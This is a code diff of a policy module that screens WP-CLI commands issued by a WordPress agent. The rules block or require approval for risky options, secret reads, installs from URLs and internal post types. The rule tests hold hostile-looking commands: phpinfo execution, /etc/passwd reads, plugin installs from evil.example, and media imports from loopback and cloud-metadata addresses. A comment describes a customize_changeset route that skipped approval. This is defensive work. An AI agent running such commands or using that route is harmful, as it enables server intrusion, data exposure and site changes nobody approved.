@@ -9,28 +9,37 @@ from __future__ import annotations
 import ipaddress
 import re
 import socket
-from collections.abc import Callable
 from dataclasses import dataclass
 from urllib.parse import urlsplit
 
+from wp_agent.policy.account_rules import (
+    account_fields,
+    account_grants,
+    privileged_user_data,
+    role_definitions,
+)
 from wp_agent.policy.categories import PolicyCategory
-from wp_agent.policy.masking import folded, is_secret_name, is_secret_option
+from wp_agent.policy.identifiers import non_plain_identifier
+from wp_agent.policy.masking import folded, is_secret_option
 from wp_agent.policy.parsed_command import ParsedCommand
+from wp_agent.policy.rule import ArgumentRule, Verdict, argument_rule, written_option
+
+__all__ = [
+    "ARGUMENT_RULES",
+    "FORBIDDEN_GLOBALS",
+    "MEDIA_PRIVATE_HOST_RULE",
+    "ArgumentRule",
+    "ReadOnlyFlag",
+    "Verdict",
+    "read_only_flag",
+]
 
 B = PolicyCategory.BLOCKED
 D = PolicyCategory.DESTRUCTIVE
 
 
-@dataclass(frozen=True)
-class Verdict:
-    category: PolicyCategory
-    rule: str
-    reason_ja: str
-    pattern: str
-
-
 # FR-5.3 important option keys, plus settings that act like them (theme/plugin switches, roles,
-# admin mail, search-engine visibility). `*user_roles` is matched by suffix (table prefixes vary).
+# admin mail, search-engine visibility). `*user_roles` is never written (account_rules.py).
 IMPORTANT_OPTION_KEYS = frozenset(
     {
         "siteurl",
@@ -55,14 +64,17 @@ FORBIDDEN_GLOBALS = {
     "http": "別のサイトへ接続するオプション（--http）は使用できません",
     "path": "WordPressの場所を変えるオプション（--path）は使用できません（接続先の設定で決まります）",
     "prompt": "対話入力を求めるオプション（--prompt）は使用できません",
+    # `--blog` is WP-CLI's old name of --url and overrides it: a session pinned to one site would
+    # write to another.
+    "blog": "対象サイトを変えるオプション（--blog）は使用できません（対象サイトはセッションの設定で決まります）",
+    # The WordPress user decides capabilities such as unfiltered_html: only the operator sets it
+    # (WP_AGENT_WP_USER or the target's wpUser); the executors add it to every command.
+    "user": "実行するWordPressユーザーを変えるオプション（--user）は使用できません（接続先の設定で決まります）",
 }
-# WP-CLI resolves `pass` to `user_pass` (Formatter tries `<prefix>_<field>`), so both spellings count.
-SECRET_USER_FIELDS = frozenset({"user_pass", "pass", "user_activation_key", "activation_key"})
 # WP-CLI's global parameters, allowed on every command (FORBIDDEN_GLOBALS are refused before this).
 GLOBAL_OPTIONS = frozenset(
     {
         "url",
-        "user",
         "quiet",
         "skip-plugins",
         "skip-themes",
@@ -101,12 +113,10 @@ _SLUG = re.compile(r"^[a-z0-9][a-z0-9_\-]*$")
 _DIGITS = re.compile(r"^\d+$")
 _ID_RANGE = re.compile(r"^(\d+-\d*|-\d+)$")  # WP-CLI expands 15-35, 34-, -35 to every existing ID
 _TABLE = re.compile(r"^[A-Za-z0-9_$]+$")
-_ADMIN_ROLES = frozenset({"administrator", "super-admin", "super_admin"})
 _PLAIN_KEY = re.compile(r"^[A-Za-z0-9_\-]+$")
-_WEB_PORTS = frozenset({None, 80, 443, 8080})
+_WEB_PORTS = frozenset({80, 443, 8080, 8443})
+MEDIA_PRIVATE_HOST_RULE = "blocked.media_private_host"
 _SECRET_SEARCH_WORDS = ("pass", "secret", "token", "key", "salt", "auth", "credential")
-
-Rule = Callable[[ParsedCommand, tuple[str, ...]], Verdict | None]
 
 
 def sanitize_key(value: str) -> str:
@@ -114,6 +124,16 @@ def sanitize_key(value: str) -> str:
     return re.sub(r"[^a-z0-9_\-]", "", value.lower())
 
 
+@argument_rule(
+    match=(
+        "post list --exec=phpinfo();",
+        "post list --REQUIRE=/tmp/x.php",
+        "--ssh=host post list",
+        "post create --blog=http://ms.test/shop/ --post_title=x",
+        "post create --user=admin --post_title=x",
+    ),
+    not_match=("post list --execute=1", "post list --paths=x"),
+)
 def _forbidden_globals(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     for option in cmd.options:
         if option.name in FORBIDDEN_GLOBALS:
@@ -123,6 +143,10 @@ def _forbidden_globals(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | N
     return None
 
 
+@argument_rule(
+    match=("search-replace a b --all-tables", "search-replace a b --all-tables-with-prefix"),
+    not_match=("search-replace a b wp_posts", "search-replace a b --dry-run"),
+)
 def _all_tables(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     for option in cmd.options:
         if option.name.startswith("all-tables"):
@@ -135,6 +159,14 @@ def _all_tables(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     return None
 
 
+@argument_rule(
+    match=(
+        "search-replace a b --export=/tmp/x.sql",
+        "search-replace a b --log=/tmp/x",
+        "search-replace a b 'wp_*'",
+    ),
+    not_match=("search-replace a b --dry-run --precise", "search-replace a b wp_posts wp_postmeta"),
+)
 def _search_replace(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     """Only known-safe options: --log writes files (or dumps rows), --callback calls PHP functions,
     --export dumps SQL; table wildcards reach beyond WordPress's tables."""
@@ -170,18 +202,20 @@ def _field_names(values: list[str]) -> set[str]:
     return {folded(part) for value in values for part in value.split(",")}
 
 
-def _secret_user_fields(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
-    names = _field_names(cmd.option_values("field", "fields"))
-    if path[0] == "user":  # `user get 1 user_pass`, `user meta get 1 session_tokens`
-        names |= {folded(a) for a in cmd.args_after(path)}
-    for name in sorted(names):
-        if name in SECRET_USER_FIELDS or (path[:2] == ("user", "meta") and is_secret_name(name)):
-            return Verdict(
-                B, "blocked.secret_field", f"パスワード等の認証情報（{name}）は出力できません", name
-            )
-    return None
-
-
+@argument_rule(
+    match=(
+        "option get mailserver_pass",
+        "option pluck my_plugin api_key",
+        "option list --search=*secret*",
+        "site option list --search=*pass*",
+    ),
+    not_match=(
+        "option get blogname",
+        "option list --search=blog*",
+        "option pluck my_plugin colour",
+        "site option list --search=smtp*",
+    ),
+)
 def _secret_option_read(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     if path in {("option", "get"), ("option", "pluck"), ("site", "option", "get")}:
         for name in cmd.args_after(path):  # pluck: the option and every key on the path
@@ -189,7 +223,8 @@ def _secret_option_read(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | 
                 return Verdict(
                     B, "blocked.secret_option", f"認証情報を含む設定（{name}）は読み出せません", name
                 )
-    if path == ("option", "list"):
+    # A listing is masked by key anyway; asking for secret names outright is refused.
+    if path in {("option", "list"), ("site", "option", "list")}:
         for value in cmd.option_values("search", "include"):
             if is_secret_option(value.replace("*", "")) or any(
                 w in folded(value) for w in _SECRET_SEARCH_WORDS
@@ -200,16 +235,19 @@ def _secret_option_read(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | 
     return None
 
 
+@argument_rule(
+    match=(
+        "option update siteurl http://x",
+        "option delete home",
+        "option patch update active_plugins 0 x",
+    ),
+    not_match=("option update posts_per_page 5", "option get siteurl"),
+)
 def _important_option(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
-    if path not in {("option", "update"), ("option", "add"), ("option", "patch"), ("option", "delete")}:
+    key = written_option(cmd, path)
+    if key is None:
         return None
-    args = cmd.args_after(path)
-    if path == ("option", "patch"):
-        args = args[1:]  # patch <action> <key> …
-    if not args:
-        return None
-    key = args[0]
-    if folded(key) in IMPORTANT_OPTION_KEYS or folded(key).endswith("user_roles"):
+    if folded(key) in IMPORTANT_OPTION_KEYS:
         return Verdict(
             D,
             "confirm.option.important_key",
@@ -227,6 +265,10 @@ def _important_option(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | No
     return None
 
 
+@argument_rule(
+    match=("plugin deactivate --all", "post delete 5 --force", "post update 10-20 --post_status=draft"),
+    not_match=("plugin deactivate akismet", "post delete 5"),
+)
 def _bulk_flags(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     if cmd.has_flag("all") or cmd.has_flag("auto-update-indicated"):
         return Verdict(
@@ -253,6 +295,10 @@ def _bulk_flags(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     return None
 
 
+@argument_rule(
+    match=("post create /etc/passwd --post_title=x", "post update 5 -", "post create --edit"),
+    not_match=("post create --post_title=x --post_content=y", "post update 5 7 --post_status=draft"),
+)
 def _post_content_sources(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     if path not in {("post", "create"), ("post", "update")}:
         return None
@@ -276,6 +322,10 @@ def _post_content_sources(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict 
     return None
 
 
+@argument_rule(
+    match=("post update 5 --post_status=trash", "comment update 3 --comment_approved=spam"),
+    not_match=("post update 5 --post_status=publish", "comment update 3 --comment_approved=1"),
+)
 def _hiding_statuses(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     """Trash by update (WordPress sanitize_key()s the status), and auto-draft, which cron deletes."""
     if path == ("post", "update"):
@@ -299,6 +349,14 @@ def _hiding_statuses(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | Non
     return None
 
 
+@argument_rule(
+    match=(
+        "plugin install https://evil.example/x.zip",
+        "theme install ./t.zip",
+        "plugin install akismet --insecure",
+    ),
+    not_match=("plugin install akismet", "theme install twentytwentythree --activate"),
+)
 def _install_source(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     if path not in {("plugin", "install"), ("theme", "install")}:
         return None
@@ -321,7 +379,22 @@ def _install_source(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None
     return None
 
 
+@argument_rule(
+    match=(
+        "theme install twentytwentythree --activate",
+        "plugin update akismet --version=5.0",
+        "plugin install contact-form-7 --version=5.3.1 --activate",
+        "theme install astra --version=1.0.0",
+        "plugin install akismet --version",
+    ),
+    not_match=(
+        "theme install twentytwentythree",
+        "plugin update akismet",
+        "plugin install akismet --activate",
+    ),
+)
 def _activation(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
+    """Theme switches, and any pinned version: an old release may be a known-vulnerable one."""
     if path in {("theme", "install"), ("theme", "enable")} and cmd.has_flag("activate"):
         return Verdict(
             D,
@@ -329,14 +402,110 @@ def _activation(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
             "テーマを有効化（切り替え）します。サイト表示に影響するため承認が必要です",
             "--activate",
         )
-    if path in {("plugin", "update"), ("theme", "update")} and cmd.option_values("version"):
+    if path in {("plugin", "update"), ("theme", "update")} and cmd.has_flag("version"):
         return Verdict(
             D,
             "confirm.extension.version",
             "指定したバージョンへ入れ替えます（古い版への戻しを含む）。承認が必要です",
             "--version",
         )
+    if path in {("plugin", "install"), ("theme", "install")} and cmd.has_flag("version"):
+        return Verdict(
+            D,
+            "confirm.extension.version",
+            "最新版ではなく指定したバージョンをインストールします（脆弱性が知られた古い版の恐れがあります）。承認が必要です",
+            "--version",
+        )
     return None
+
+
+# Post types WordPress acts on when such a post is saved or published: a published
+# customize_changeset applies its settings (tried on WordPress 6.1: `post create
+# --post_type=customize_changeset --post_status=publish --post_content='{"blogname":…}'` renamed the
+# site without the approval an option change needs), user_request starts privacy exports/erasures,
+# scheduled-action runs hooks, templates and global styles change every page.
+_INTERNAL_POST_TYPES = frozenset(
+    {
+        "customize_changeset",
+        "user_request",
+        "scheduled-action",
+        "revision",
+        "oembed_cache",
+        "custom_css",
+        "wp_global_styles",
+        "wp_template",
+        "wp_template_part",
+        "wp_navigation",
+    }
+)
+
+
+@argument_rule(
+    match=(
+        "post create --post_type=customize_changeset --post_status=publish --post_content='{}'",
+        "post update 8 --post_type=user_request",
+        "post create --post_type=CUSTOM_CSS --post_content=x",
+    ),
+    not_match=(
+        "post create --post_type=page --post_title=会社概要",
+        "post list --post_type=customize_changeset --format=ids",
+    ),
+)
+def _internal_post_types(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
+    if path not in {("post", "create"), ("post", "update")}:
+        return None
+    internal = next((t for t in cmd.option_values("post_type") if folded(t) in _INTERNAL_POST_TYPES), None)
+    if internal is None:
+        return None
+    return Verdict(
+        B,
+        "blocked.internal_post_type",
+        f"WordPressが内部で使う投稿タイプ（{internal}）は作成・変更できません（保存時に設定変更などが実行されるため）",
+        f"--post_type={internal}",
+    )
+
+
+# Options whose value decides where uploads are written (a file in the web root is code), or which
+# hook runs when (the `cron` option is every scheduled event with its arguments).
+_PLACEMENT_OPTIONS = {
+    "upload_path": "アップロード先のディレクトリ",
+    "upload_url_path": "アップロードファイルのURL",
+    "fileupload_url": "アップロードファイルのURL",
+    "upload_filetypes": "アップロードできるファイルの種類",
+    "cron": "予約イベント（任意のフックと引数を実行できます）",
+}
+
+
+@argument_rule(
+    match=(
+        "option update upload_path /var/www/html",
+        "option set UPLOAD_URL_PATH https://evil.example",
+        "option add upload_path wp-content/x",
+        "option patch insert cron 1700000000 '{}' --format=json",
+        "option update cron '{}' --format=json",
+        "option delete cron",
+    ),
+    not_match=(
+        "option get upload_path",
+        "option update uploads_use_yearmonth_folders 1",
+        "cron event list --format=json",
+        "cron event delete wp_privacy_delete_old_export_files",
+    ),
+)
+def _placement_and_hooks(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
+    """Upload locations and the `cron` option, which is `cron event schedule` (a hard block: a hook
+    runs with the arguments we give it — `importer_scheduled_cleanup --0=<ID>` deletes an attachment
+    for good) written by hand."""
+    key = written_option(cmd, path)
+    meaning = _PLACEMENT_OPTIONS.get(folded(key)) if key is not None else None
+    if key is None or meaning is None:
+        return None
+    return Verdict(
+        B,
+        "blocked.placement_option",
+        f"設定「{key}」（{meaning}）は変更できません",
+        key,
+    )
 
 
 def _numeric_ipv4(host: str) -> ipaddress.IPv4Address | None:
@@ -366,6 +535,15 @@ def _is_public_host(host: str) -> bool:
     return bool((mapped or address).is_global)
 
 
+@argument_rule(
+    match=(
+        "media import /etc/passwd",
+        "media import http://127.0.0.1/x.png",
+        "media import 'http://\u200b169.254.169.254/x.png'",
+        "media regenerate --yes",
+    ),
+    not_match=("media import https://example.com/x.png", "media regenerate 7 --yes"),
+)
 def _media_source(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
     if path == ("media", "regenerate") and not [a for a in cmd.args_after(path) if _DIGITS.match(a)]:
         return Verdict(
@@ -383,6 +561,9 @@ def _media_source(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
             "保存先ディレクトリの指定（--destination-dir）はできません",
             "--destination-dir",
         )
+    # The literal checks here answer early; SafeDownloader checks every resolved address and
+    # redirect when the agent downloads the file (WordPress itself never fetches it).
+    refused: list[str] = []
     for source in cmd.args_after(path):
         parts = urlsplit(source)
         if parts.scheme not in {"http", "https"} or not parts.hostname:
@@ -392,73 +573,48 @@ def _media_source(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
                 f"メディアは http(s) のURLからのみ取り込めます（サーバー上のファイルは不可）: {source}",
                 source,
             )
+        if not parts.hostname.isascii():
+            # IDNA drops invisible characters: http://<U+200B>169.254.169.254/ is the metadata host.
+            return Verdict(
+                B,
+                "blocked.media_source",
+                f"URLのホスト名は半角で指定してください（国際化ドメインは xn-- の形式）: {ascii(parts.hostname)[1:-1]}",
+                source,
+            )
         try:
-            port = parts.port
+            port = parts.port or (443 if parts.scheme == "https" else 80)
         except ValueError:
             port = -1
         if not _is_public_host(parts.hostname) or port not in _WEB_PORTS:
-            return Verdict(
-                B,
-                "blocked.media_private_host",
-                f"内部ネットワークのアドレスや特殊なポートからは取り込めません: {parts.netloc}",
-                parts.hostname,
-            )
-    return None
-
-
-def _roles_and_accounts(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
-    """Administrator grants, any role change of an existing user, and account takeover paths."""
-    if path == ("user", "create") and any(folded(r) in _ADMIN_ROLES for r in cmd.option_values("role")):
-        return Verdict(
-            D, "confirm.user.administrator_role", "管理者権限を付与します。承認が必要です", "administrator"
-        )
-    if path == ("user", "add-role") and any(folded(r) in _ADMIN_ROLES for r in cmd.args_after(path)[1:]):
-        return Verdict(
-            D, "confirm.user.administrator_role", "管理者権限を付与します。承認が必要です", "administrator"
-        )
-    if path == ("user", "set-role") or (path == ("user", "update") and cmd.has_flag("role")):
-        roles = [*cmd.args_after(path)[1:], *cmd.option_values("role")]
-        rule = (
-            "confirm.user.administrator_role"
-            if any(folded(r) in _ADMIN_ROLES for r in roles)
-            else "confirm.user.role_change"
-        )
-        return Verdict(
-            D, rule, "既存ユーザーの権限を変更します（管理者の降格・締め出しを含む）。承認が必要です", "role"
-        )
-    if path == ("user", "update") and (cmd.has_flag("user_pass") or cmd.has_flag("user_email")):
-        return Verdict(
-            D,
-            "confirm.user.credentials",
-            "既存ユーザーのパスワードまたはメールアドレスを変更します。承認が必要です",
-            "--user_pass/--user_email",
-        )
-    if path[:2] == ("user", "meta") and path[2:] in {("update",), ("add",), ("patch",)}:
-        args = cmd.args_after(path)
-        key = folded(args[2] if path[2] == "patch" and len(args) > 2 else args[1] if len(args) > 1 else "")
-        if key.endswith(("capabilities", "user_level")):
-            return Verdict(
-                D,
-                "confirm.user.capabilities_meta",
-                "ユーザーの権限情報（capabilities）を書き換えます。承認が必要です",
-                key,
-            )
-    return None
+            refused.append(f"{parts.hostname}:{port}")
+    if not refused:
+        return None
+    return Verdict(
+        B,
+        MEDIA_PRIVATE_HOST_RULE,
+        f"内部ネットワークのアドレスや特殊なポートからは取り込めません: {', '.join(refused)}",
+        ",".join(refused),  # every refused host:port (an explicit test setting may allow them)
+    )
 
 
 # Order matters only for which reason is reported first among equal categories.
-ARGUMENT_RULES: tuple[Rule, ...] = (
+ARGUMENT_RULES: tuple[ArgumentRule, ...] = (
+    non_plain_identifier,
     _forbidden_globals,
     _all_tables,
     _search_replace,
-    _secret_user_fields,
+    privileged_user_data,
+    account_fields,
+    role_definitions,
     _secret_option_read,
     _post_content_sources,
     _install_source,
     _media_source,
     _important_option,
-    _roles_and_accounts,
+    account_grants,
     _activation,
+    _placement_and_hooks,
+    _internal_post_types,
     _hiding_statuses,
     _bulk_flags,
 )
